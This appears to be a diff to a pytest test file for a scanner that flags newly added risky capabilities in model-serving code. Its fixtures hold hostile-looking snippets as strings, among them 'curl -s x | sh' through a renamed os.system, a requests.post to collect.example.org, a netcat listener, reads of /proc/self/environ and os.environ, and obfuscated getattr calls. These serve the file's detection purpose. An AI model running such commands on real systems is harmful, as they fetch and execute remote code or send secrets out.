@@ -18,40 +18,63 @@ class TritonPythonModel:
         return code
 """
 NEW = {
-    "network": ("import socket", "newly uses the network: socket in line 12"),
+    "network": ("import socket", "newly uses the network (socket): import socket (line 12)"),
     "host": (
         'import requests\nrequests.post("https://collect.example.org/x", json=1)',
-        "; names the host: collect.example.org in line 13",
+        "uses the network (requests.post), names the host (collect.example.org): "
+        "requests.post('https://collect.example.org/x', json=1) (line 13)",
     ),
     "renamed import": (
         "from os import system as refresh\nrefresh('curl -s x | sh')",
-        "newly runs programs: os.system in line 12, curl (os.system in line 13)",
+        "runs programs (os.system), runs programs (curl: os.system): refresh(",
     ),
     "program": (
         "import subprocess\nsubprocess.run(['nc', '-l'])",
-        "nc (subprocess.run in line 13)",
+        "(nc: subprocess.run): subprocess.run(['nc', '-l']) (line 13)",
     ),
-    "exec": ("exec(json.loads('1'))", "newly runs code that it is given: exec in line 12"),
-    "pickle": ("import pickle", "newly runs code that it is given: pickle"),
-    "attribute in pieces": ("getattr(os, 'sys' + 'tem')('x')", "x (os.system in line 12)"),
+    "exec": (
+        "exec(json.loads('1'))",
+        "newly runs code that it is given (exec): exec(json.loads('1')) (line 12)",
+    ),
+    "pickle": ("import pickle", "newly runs code that it is given (pickle)"),
+    "attribute in pieces": ("getattr(os, 'sys' + 'tem')('x')", "runs programs (x: os.system)"),
+    "what is sent": (
+        "import socket\nbody = repr(texts)\nsocket.socket().send(body)",
+        "socket.socket().send(body) (line 14) with body = repr(texts)",
+    ),
     "host in pieces": (
         "import socket\nHOST = 'example.org'\nsocket.create_connection(f'https://x.{HOST}')",
-        "names the host: x.example.org in line 14",
+        "names the host (x.example.org)",
     ),
     "computed attribute": ("getattr(os, os.sep)('x')", "a computed attribute"),
     "path of a request": (
         "def read(request):\n    return open(request.name)",
-        "uses files outside: a computed path (open in line 13)",
+        "uses files outside (a computed path: open): return open(request.name)",
+    ),
+    "path of a request in a helper": (
+        "def read(path):\n    return open(path)\nread(__file__)\nfor r in texts:\n    read(r.x)",
+        "uses files outside (a computed path: open)",
     ),
     "subclasses": ("().__class__.__base__.__subclasses__()", "__subclasses__"),
-    "environment": ("key = os.environ['AWS_CONTAINER']", "reads the environment: os.environ"),
-    "files": ("open('/proc/self/environ')", "uses files outside: /proc/self/environ in line 12"),
-    "writes": ("open('state', mode='ab')", "writes or deletes files: open in line 12"),
-    "native": ("import ctypes", "runs native code: ctypes"),
+    "environment": (
+        "key = os.environ['AWS_CONTAINER']",
+        "reads the environment (os.environ): key = os.environ",
+    ),
+    "files": ("open('/proc/self/environ')", "uses files outside (/proc/self/environ)"),
+    "writes": ("open('state', mode='ab')", "writes or deletes files (open)"),
+    "errors hidden": (
+        "import socket\ntry:\n    socket.socket()\nexcept OSError:\n    pass",
+        "hides errors (except): pass (line 16)",
+    ),
+    "native": ("import ctypes", "runs native code (ctypes)"),
 }
 HARMLESS = {
     "own path": "def read(args):\n    folder = args['a']\n    return [open(x) for x in folder]",
+    "own path of a helper": (
+        "def read(path):\n    return open(path)\nread(os.path.join(os.path.dirname(__file__), 'a'))"
+    ),
     "other names": "http = socket = eval_loss = 1\nhttp.get(socket)",
+    "errors of other code hidden": "try:\n    x = 1\nexcept OSError:\n    pass",
     "longer": "\n".join(f"x{number} = np.zeros({number})" for number in range(80)),
     "address in a text": "raise ValueError('see https://docs.example.com')",
     "compiled pattern": "import re\nre.compile('a')",
@@ -80,6 +103,21 @@ def test_new_capability_is_a_danger(title: str) -> None:
 @pytest.mark.parametrize("title", HARMLESS)
 def test_code_without_a_new_capability(title: str) -> None:
     assert messages({PATH: BASE}, {PATH: BASE + HARMLESS[title]}) == []
+
+
+@pytest.mark.parametrize(
+    ("added", "text"),
+    [
+        ("client('s3', verify=False)", "the program's code newly does not verify who answers"),
+        ("import subprocess\nsubprocess.run('x', shell=True)", "(a shell: shell=True)"),
+        ("import urllib.request as r\nr.urlopen('https://x.dev')", "r.urlopen('https://x.dev')"),
+        ("print('see https://docs.example.com')\nopen('/etc/x')", ""),
+    ],
+)
+def test_other_programs(added: str, text: str) -> None:
+    path = "constructs/triton_sagemaker/catalog_handler/index.py"
+    texts = messages({path: "import boto3\n"}, {path: f"import boto3\n{added}"})
+    assert [text in message for message in texts] == ([True] if text else [])
 
 
 def test_moved_code_has_no_new_capability() -> None:
